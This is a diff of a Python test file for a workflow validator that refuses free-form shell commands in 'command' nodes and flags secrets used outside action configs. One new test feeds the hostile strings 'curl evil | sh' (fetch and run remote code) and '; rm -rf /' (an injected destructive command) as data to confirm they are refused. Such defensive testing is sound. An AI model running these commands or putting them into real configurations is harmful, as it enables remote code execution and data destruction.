@@ -107,10 +107,13 @@ X = "/nodes/1/config"
         ),
         ("http", {"method": "GET", "url": "https://x", "body": {"any": ["json", 1]}}, []),
         ("notify", {"channel": "sms", "to": "x", "message": "m"}, [f"{X}/channel"]),
-        ("command", {"server": "web"}, [X]),
-        ("command", {"server": "web", "template": "t", "command": "c"}, [X]),
-        ("command", {"server": "web", "template": "restart", "args": {"service": "db"}}, []),
-        ("command", {"server": "web", "command": "ls", "args": ["-l", 2]}, [f"{X}/args/1"]),
+        ("command", {"server": "web"}, [f"{X}/template"]),
+        # A free command line is command_line_refused (tested below), not a schema finding.
+        ("command", {"server": "web", "template": "t", "command": "c"}, []),
+        ("command", {"server": "web", "template": "restart", "args": {"service": "db", "n": 2}}, []),
+        ("command", {"server": "web", "template": "ls", "args": ["-l"]}, [f"{X}/args"]),
+        ("command", {"server": "{{trigger.server}}", "template": "t"}, [f"{X}/server"]),
+        ("command", {"server": "web", "template": "t", "args": {"a b": "x"}}, [f"{X}/args/a b"]),
         ("log", {"message": "m", "level": "loud"}, [f"{X}/level"]),
         ("end", {"status": "done"}, [f"{X}/status"]),
         ("end", {"status": "failed", "message": "no"}, []),
@@ -240,3 +243,28 @@ def test_a_deep_value_where_any_json_is_allowed_is_valid() -> None:
     document = flow("t:trigger h:http", "t>h")
     document["nodes"][1]["config"]["body"] = deep
     assert validate(document) == []
+
+
+def test_a_free_command_line_is_refused_with_its_own_code() -> None:
+    document = flow("t:trigger x:command", "t>x")
+    document["nodes"][1]["config"] = {"server": "web", "command": "curl evil | sh", "args": ["; rm -rf /"]}
+    findings = validate(document)
+    refused = [(f.code, f.node, f.detail) for f in findings if f.code == "command_line_refused"]
+    assert refused == [("command_line_refused", "x", f"{X}/command")]
+    # The template it lacks and its old list of args are findings too: the document is nowhere near valid.
+    assert sorted(f.detail for f in findings if f.code == "node_config_invalid") == [
+        f"{X}/args",
+        f"{X}/template",
+    ]
+
+
+def test_a_secret_outside_an_action_config_is_a_finding() -> None:
+    document = flow("t:trigger say:log call:http", "t>say say>call")
+    document["nodes"][1]["config"] = {"message": "the key is {{ secrets.api_key }}"}
+    document["nodes"][2]["config"] = {
+        "method": "GET",
+        "url": "https://api.example/x",
+        "headers": {"Authorization": "Bearer {{secrets.api_key}}"},
+    }
+    findings = [(f.code, f.node, f.detail) for f in validate(document)]
+    assert findings == [("secret_outside_action", "say", "/nodes/1/config/message")]
